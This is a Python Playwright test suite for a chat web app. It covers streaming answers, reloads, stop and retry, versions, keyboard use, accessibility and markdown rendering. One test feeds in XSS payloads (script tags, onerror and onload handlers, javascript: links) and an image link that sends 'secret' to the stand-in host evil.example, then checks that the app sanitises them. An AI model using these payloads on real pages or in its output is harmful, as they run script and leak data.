"""Chatting in a real browser over a real server: asked, seen to come, left, found again, stopped, and tried again."""

from __future__ import annotations

import gzip
import re
import threading
from collections.abc import Iterator
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest
from django.contrib.auth.models import User
from django.utils import timezone
from playwright.sync_api import expect

from conversations.models import Conversation, Message
from tests import people
from tests.browser.chatting import Chatting
from tests.browser.test_admin import browser  # noqa: F401 - a fixture
from tests.support.answers import Answer, Hold, chunk, error, events_of, sse, stream
from tests.support.gateway import LiveGateway
from tests.support.provider import ScriptedProvider

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.timeout(120)]
LONG = """## Four ways to run it

Pay per token: it costs about **$30 a month**, and $5 and $6 are money while $x^2 + y^2$ is not. See
[the docs](https://example.com/docs).

| Option | Fixed | At 40,000 |
|---|--:|--:|
| gpt-5.2-mini, per token | – | $29.70 |
| Rented L40S, reserved | $612.00 | $612.00 |

1. Retries: about fifty cents.
2. Somebody has to own the card:
   - half a day a month
   - more than the whole bill

$$C = N \\cdot \\frac{t_{in} p_{in} + t_{out} p_{out}}{10^6}$$

```python
def monthly(path: str) -> float:
    # dollars per million tokens
    return sum(int(row["tokens"]) for row in rows(path)) * 0.25 / 1_000_000
```

> Capitals never, and `code` where it is code.
"""
HOSTILE = """<img src=x onerror="document.title='ran'"><script>document.title = 'ran'</script>

![secret](https://evil.example/?q=secret) [link](javascript:document.title='ran')

```"><img src=x onerror=document.title='ran'>
x
```

| a |
|---|
| <svg onload="document.title='ran'"> |

$$\\href{javascript:document.title='ran'}{x}$$
"""


def held(before: str, after: str, gate: threading.Event) -> Answer:
    """An answer that waits in its middle."""
    first, *rest = events_of([{"content": before}, {"content": after}])
    return sse([first, rest[0], Hold(gate), *rest[1:]])


@pytest.fixture
def provider(gateway: LiveGateway) -> Iterator[ScriptedProvider]:
    with ScriptedProvider(models=["alpha", "beta"]) as scripted:
        gateway.add_provider(scripted, "alpha", "beta", name="Rack")
        people.alice()
        people.bob()
        gateway.reload()
        yield scripted


@pytest.fixture
def chatting(gateway: LiveGateway, browser: Browser, provider: ScriptedProvider) -> Iterator[Chatting]:  # noqa: F811
    made = Chatting(browser, gateway, "alice")
    yield made
    assert made.complaints == []


def test_an_answer_streams_and_is_kept(chatting: Chatting, provider: ScriptedProvider) -> None:
    gate = threading.Event()
    provider.on("alpha", held("The first half, ", "and the second.", gate))
    chatting.ask("Say it in halves")
    chatting.answers.get_by_text("The first half,").wait_for()
    assert "and the second" not in chatting.answers.inner_text()
    assert chatting.page.locator(".side .lamp").count() == 1
    gate.set()
    chatting.answers.get_by_text("The first half, and the second.").wait_for()
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    assert "7 in · 3 out" in chatting.answers.inner_text()
    assert re.search(r"/chat/[0-9a-f-]{36}/$", chatting.page.url)
    chatting.page.reload()
    chatting.answers.get_by_text("The first half, and the second.").wait_for()
    assert chatting.page.locator("h1").inner_text() == "Say it in halves"
    chatting.listed.first.wait_for()
    assert chatting.listed.count() == 1


def test_a_reload_in_the_middle_loses_nothing(chatting: Chatting, provider: ScriptedProvider) -> None:
    gate = threading.Event()
    provider.on("alpha", held("Before the reload. ", "After the reload.", gate))
    chatting.ask("Go on without me")
    chatting.answers.get_by_text("Before the reload.").wait_for()
    chatting.page.reload()
    chatting.answers.get_by_text("Before the reload.").wait_for()
    gate.set()
    chatting.answers.get_by_text("Before the reload. After the reload.").wait_for()
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    assert chatting.answers.inner_text().count("Before the reload.") == 1
    assert len(provider.chats) == 1


def test_stop_reaches_the_provider(chatting: Chatting, provider: ScriptedProvider) -> None:
    provider.on("alpha", held("As far as here", "never", threading.Event()))
    chatting.ask("Talk")
    chatting.answers.get_by_text("As far as here").wait_for()
    chatting.page.keyboard.press("Escape")
    chatting.answers.get_by_text("Stopped.").wait_for()
    assert provider.chats[0].left.wait(5)
    assert "As far as here" in chatting.answers.inner_text()
    provider.on("alpha", stream(" and on."))
    chatting.page.get_by_role("button", name="Continue").click()
    chatting.answers.get_by_text("and on.").wait_for()
    chatting.page.get_by_role("button", name="Answer again").nth(1).wait_for()


def test_an_error_says_so_and_is_tried_again(chatting: Chatting, provider: ScriptedProvider) -> None:
    provider.on("alpha", error(400, "The prompt mentions a walrus"))
    chatting.ask("Walrus?")
    alert = chatting.page.get_by_role("alert").filter(has_text="walrus")
    alert.wait_for()
    provider.on("alpha", stream("Better now."))
    alert.get_by_role("button", name="Try again").click()
    chatting.answers.get_by_text("Better now.").wait_for()
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    assert chatting.page.get_by_role("group", name="Versions of this answer").inner_text().strip() == "2/2"


def test_the_page_is_small_and_asks_nobody_else(chatting: Chatting) -> None:
    asked: list[str] = []
    came: list[Any] = []
    chatting.page.on("request", lambda request: asked.append(request.url))
    chatting.page.on("response", lambda response: came.extend([response]))
    chatting.page.reload()
    chatting.page.get_by_text("2 models are ready.").wait_for()
    chatting.page.wait_for_load_state("networkidle")
    assert len(asked) <= 25, asked
    bodies = [response.body() for response in came]
    assert sum(map(len, bodies)) <= 500_000
    # An installation sends its files compressed, better than this.
    assert sum(len(gzip.compress(body)) for body in bodies) <= 150_000
    assert chatting.page.locator("*").count() < 1_500
    assert [url for url in asked if not url.startswith(chatting.url)] == []


def test_older_chats_come_page_by_page_and_pinned_ones_first(chatting: Chatting) -> None:
    alice = User.objects.get(username="alice")
    begun = timezone.now()
    for number in range(90):
        made = {"title": f"Chat {number:02}", "pinned": number == 89, "updated_at": begun - timedelta(minutes=number)}
        Conversation.objects.create(owner=alice, **made)
    chatting.page.reload()
    chatting.page.locator(".side section", has_text="Pinned").get_by_text("Chat 89").wait_for()
    for _ in range(3):
        chatting.listed.last.scroll_into_view_if_needed()
        chatting.page.wait_for_timeout(300)
    chatting.page.get_by_role("link", name="Chat 88").wait_for()
    assert chatting.listed.count() == 90


def test_answers_and_questions_have_versions(chatting: Chatting, provider: ScriptedProvider) -> None:
    provider.enqueue(stream("One."), stream("Two."), stream("Three."))
    chatting.ask("Count")
    again = chatting.page.get_by_role("button", name="Answer again")
    again.click()
    chatting.answers.get_by_text("Two.").wait_for()
    versions = chatting.page.get_by_role("group", name="Versions of this answer")
    versions.get_by_role("button", name="Previous version").click()
    chatting.answers.get_by_text("One.").wait_for()
    chatting.questions.hover()
    chatting.page.get_by_role("button", name="Edit question").click()
    chatting.page.get_by_role("textbox", name="Question").fill("Count further")
    chatting.page.get_by_role("button", name="Ask", exact=True).click()
    chatting.answers.get_by_text("Three.").wait_for()
    again.wait_for()
    chatting.page.get_by_role("group", name="Versions of this question").get_by_text("2/2").wait_for()
    assert Message.objects.filter(role="user").count() == 2
    assert [chat.json["messages"][-1]["content"] for chat in provider.chats] == ["Count", "Count", "Count further"]


def test_instructions_and_the_model_that_was_chosen_are_sent(chatting: Chatting, provider: ScriptedProvider) -> None:
    chatting.page.get_by_role("button", name="Instructions for this chat").click()
    chatting.page.get_by_role("textbox", name="Instructions").fill("Answer in Latin.")
    chatting.page.get_by_role("button", name="Save").click()
    chatting.page.get_by_role("button", name="Model: alpha").click()
    chatting.page.get_by_role("combobox", name="Find a model").fill("bet")
    chatting.page.keyboard.press("Enter")
    chatting.ask("Salve")
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    [sent] = provider.chats
    assert sent.json["model"] == "beta"
    assert sent.json["messages"] == [
        {"role": "system", "content": "Answer in Latin."}, {"role": "user", "content": "Salve"},
    ]  # fmt: skip
    chatting.ask("Vale")
    chatting.page.get_by_role("button", name="Answer again").nth(1).wait_for()
    said = [message["content"] for message in provider.chats[1].json["messages"]]
    assert said == ["Answer in Latin.", "Salve", "Salve", "Vale"]


def test_chats_are_renamed_pinned_searched_deleted_and_brought_back(chatting: Chatting) -> None:
    chatting.ask("About herons")
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    chatting.menu("Rename")
    chatting.page.get_by_role("textbox", name="Name of the chat").fill("Birds")
    chatting.page.keyboard.press("Enter")
    chatting.page.get_by_role("heading", name="Birds").wait_for()
    chatting.menu("Pin")
    chatting.page.locator(".side h2", has_text="Pinned").wait_for()
    chatting.ask("And after a change of name?")
    chatting.page.get_by_role("button", name="Answer again").nth(1).wait_for()
    chatting.page.keyboard.press("Control+Shift+O")
    chatting.page.get_by_role("heading", name="New chat").wait_for()
    chatting.page.keyboard.press("Control+k")
    chatting.page.get_by_role("combobox").fill("heron")
    chatting.page.get_by_role("option", name="Birds").wait_for()
    chatting.page.keyboard.press("Enter")
    chatting.page.get_by_role("heading", name="Birds").wait_for()
    chatting.menu("Delete")
    chatting.page.get_by_text("No chats yet.").wait_for()
    assert Conversation.objects.get().deleted_at is not None
    chatting.page.get_by_role("button", name="Undo").click()
    chatting.page.get_by_role("heading", name="Birds").wait_for()
    assert chatting.listed.count() == 1


def test_what_one_user_says_another_does_not_see(
    gateway: LiveGateway,
    browser: Browser,  # noqa: F811
    chatting: Chatting,
) -> None:
    chatting.ask("My secret")
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    other = Chatting(browser, gateway, "bob")
    other.page.get_by_text("No chats yet.").wait_for()
    other.page.goto(chatting.page.url)
    other.page.get_by_role("heading", name="This chat is not here.").wait_for()
    assert "My secret" not in other.text()
    # The browser itself names the 404 of the API, and nothing else.
    assert all("404" in complaint for complaint in other.complaints)


def test_a_chat_that_went_on_in_another_tab_loses_nothing(chatting: Chatting) -> None:
    # Without news of the other one.
    chatting.page.context.route_web_socket("**/ws/", lambda socket: socket.close(code=4000))
    chatting.page.reload()
    chatting.ask("First")
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    other = chatting.context.new_page()
    other.goto(chatting.page.url)
    other.get_by_role("button", name="Answer again").wait_for()
    other.get_by_role("textbox", name="Message", exact=True).fill("From the other tab")
    other.locator(".go[aria-label=Send]:enabled").click()
    other.get_by_role("button", name="Answer again").nth(1).wait_for()
    chatting.ask("From this tab")
    chatting.page.get_by_role("alert").get_by_text("This chat went on in another tab.").wait_for()
    expect(chatting.box).to_have_value("From this tab")
    chatting.questions.get_by_text("From the other tab").wait_for()
    chatting.ask("From this tab")
    chatting.page.get_by_role("button", name="Answer again").nth(2).wait_for()
    # The browser itself names the 409 of the API, and nothing else.
    assert all("409" in complaint for complaint in chatting.complaints)
    chatting.complaints.clear()


def test_drafts_stay_with_their_chat(chatting: Chatting) -> None:
    chatting.ask("First")
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    chatting.box.fill("half a thought")
    chatting.page.get_by_role("link", name="New chat").click()
    assert chatting.box.input_value() == ""
    chatting.listed.get_by_role("link").click()
    chatting.page.get_by_role("heading", name="First").wait_for()
    assert chatting.box.input_value() == "half a thought"
    chatting.page.reload()
    chatting.page.get_by_role("heading", name="First").wait_for()
    assert chatting.box.input_value() == "half a thought"


def test_offline_is_said_and_nothing_is_lost(chatting: Chatting) -> None:
    chatting.box.fill("Written under ground")
    # With the first letter the page fetches what it will show the answer with.
    chatting.page.wait_for_load_state("networkidle")
    chatting.context.set_offline(True)
    chatting.page.get_by_text("You’re offline.", exact=True).wait_for()
    chatting.box.press("Enter")
    assert chatting.box.input_value() == "Written under ground"
    chatting.context.set_offline(False)
    chatting.ask("Written under ground")
    chatting.page.get_by_role("button", name="Answer again").wait_for()


def test_it_can_be_used_with_the_keyboard_alone(chatting: Chatting, provider: ScriptedProvider) -> None:
    keys = chatting.page.keyboard
    chatting.page.locator(".go").wait_for()
    keys.press("Tab")
    chatting.box.blur()
    keys.press("/")
    keys.type("Typed")
    keys.press("Shift+Enter")
    keys.type("on two lines")
    chatting.page.locator(".go[aria-label=Send]:enabled").wait_for()
    keys.press("Enter")
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    assert provider.chats[0].json["messages"][-1]["content"] == "Typed\non two lines"
    chatting.box.blur()
    keys.press("?")
    chatting.page.get_by_role("dialog", name="Keyboard shortcuts").wait_for()
    # The browser of the tests has no mouse: hints are hidden there, the list that was asked for is not.
    assert "Ctrl" in chatting.page.get_by_role("dialog").inner_text()
    assert chatting.page.evaluate("document.documentElement.scrollHeight <= innerHeight"), "only the log"
    keys.press("Escape")
    chatting.page.get_by_role("dialog").wait_for(state="detached")
    options = chatting.page.get_by_role("button", name="Options of this chat")
    options.focus()
    keys.press("Enter")
    chatting.page.get_by_role("menu").wait_for()
    keys.press("ArrowDown")
    keys.press("Escape")
    assert options.evaluate("button => button === document.activeElement")


def test_nothing_that_a_model_says_runs_or_calls_home(chatting: Chatting, provider: ScriptedProvider) -> None:
    asked: list[str] = []
    chatting.page.on("request", lambda request: asked.append(request.url))
    provider.on("alpha", stream(HOSTILE))
    chatting.ask("Be evil")
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    chatting.page.locator(".prose table").wait_for()
    chatting.page.wait_for_timeout(300)
    assert "ran" not in chatting.page.title()
    assert [url for url in asked if "evil" in url] == []
    prose = chatting.page.locator(".prose")
    assert prose.locator("script, img, svg, [onerror], [onload], [style]").count() == 0
    assert prose.locator("a[href^='javascript']").count() == 0
    assert prose.locator("a", has_text="evil.example").get_attribute("rel") == "noopener noreferrer nofollow"
    assert "onerror" in prose.inner_text()


def test_markdown_is_shown_as_what_it_means(chatting: Chatting, provider: ScriptedProvider) -> None:
    provider.on("alpha", sse(events_of([{"content": piece} for piece in re.findall(r"(?s).{1,7}", LONG)])))
    chatting.ask("Compare the ways")
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    prose = chatting.page.locator(".prose")
    prose.locator(".hljs-keyword").first.wait_for()
    prose.locator("math").nth(1).wait_for()
    assert prose.locator("math").count() == 2
    assert prose.locator("td.r").count() == 4
    assert prose.locator("ol > li").count() == 2
    assert "$5 and $6 are money" in prose.inner_text()
    live = prose.inner_html()
    chatting.page.reload()
    prose.locator(".hljs-keyword").first.wait_for()
    prose.locator("math").nth(1).wait_for()
    # What came in pieces looks as what is read whole.
    assert prose.inner_html() == live
    chatting.context.grant_permissions(["clipboard-read", "clipboard-write"])
    prose.locator(".code").get_by_role("button", name="Copy").click()
    chatting.page.get_by_text("Code copied.").wait_for()
    assert chatting.page.evaluate("navigator.clipboard.readText()").startswith("def monthly")


def test_reasoning_is_folded_once_the_answer_begins(chatting: Chatting, provider: ScriptedProvider) -> None:
    gate = threading.Event()
    thought: list[Any] = [chunk({"reasoning_content": "Let me see."}), Hold(gate)]
    provider.on("alpha", sse([*thought, *events_of([{"content": "Seen."}])]))
    chatting.ask("Look")
    chatting.answers.get_by_text("Let me see.").wait_for()
    gate.set()
    chatting.answers.get_by_text("Seen.").wait_for()
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    assert not chatting.answers.get_by_text("Let me see.").is_visible()
    chatting.answers.get_by_text("Thought").click()
    chatting.answers.get_by_text("Let me see.").wait_for()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_state_is_accessible_and_fits(
    gateway: LiveGateway,
    browser: Browser,  # noqa: F811
    provider: ScriptedProvider,
    scheme: str,
) -> None:
    found: list[str] = []
    for width in (1440, 1024, 390):
        made = Chatting(browser, gateway, "alice", width=width, scheme=scheme)
        made.page.get_by_text("ready.").or_(made.page.get_by_text("What is it about?")).wait_for()
        found += [*walk(made, provider, f"{width}-{scheme}"), *made.complaints]
    assert found == []


def walk(chatting: Chatting, provider: ScriptedProvider, name: str) -> list[str]:
    """Through every state of the page: what axe finds, and what is too wide."""
    found = check(chatting, f"{name}-empty")
    provider.on("alpha", stream(LONG))
    chatting.ask("We summarise about 40,000 support tickets a month. Is it cheaper to rent one GPU?")
    chatting.page.get_by_role("button", name="Answer again").wait_for()
    chatting.page.locator(".prose math").nth(1).wait_for()
    found += check(chatting, f"{name}-long")
    gate = threading.Event()
    thought = [chunk({"reasoning_content": "Nights only is nine hours a day."})]
    pieces = [*thought, chunk({"content": "We’re staying with the hosted model. "}), Hold(gate)]
    provider.on("alpha", sse([*pieces, *events_of([{"content": "It costs about $30."}])]))
    chatting.ask("Write it as a note to the team.")
    chatting.answers.get_by_text("staying with").wait_for()
    found += check(chatting, f"{name}-streaming")
    gate.set()
    chatting.page.get_by_role("button", name="Answer again").nth(1).wait_for()
    provider.on("alpha", error(400, "This is 12k tokens more than the model can read."))
    chatting.ask("And now everything at once")
    chatting.page.get_by_role("alert").wait_for()
    found += check(chatting, f"{name}-error")
    for keys, state in (("Control+k", "search"), ("Escape", ""), ("?", "help"), ("Escape", "")):
        chatting.box.blur()
        chatting.page.keyboard.press(keys)
        chatting.page.get_by_role("dialog").wait_for(state="visible" if state else "detached")
        if state:
            found += check(chatting, f"{name}-{state}")
    chatting.page.get_by_role("button", name="Model: alpha").click()
    chatting.page.get_by_role("dialog", name="Choose a model").wait_for()
    return found + check(chatting, f"{name}-models")


def check(chatting: Chatting, name: str) -> list[str]:
    chatting.page.wait_for_timeout(250)
    chatting.picture(name)
    wide = chatting.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    return [f"{name}: {fault}" for fault in (*chatting.faults(), *(["too wide"] if wide > 0 else []))]
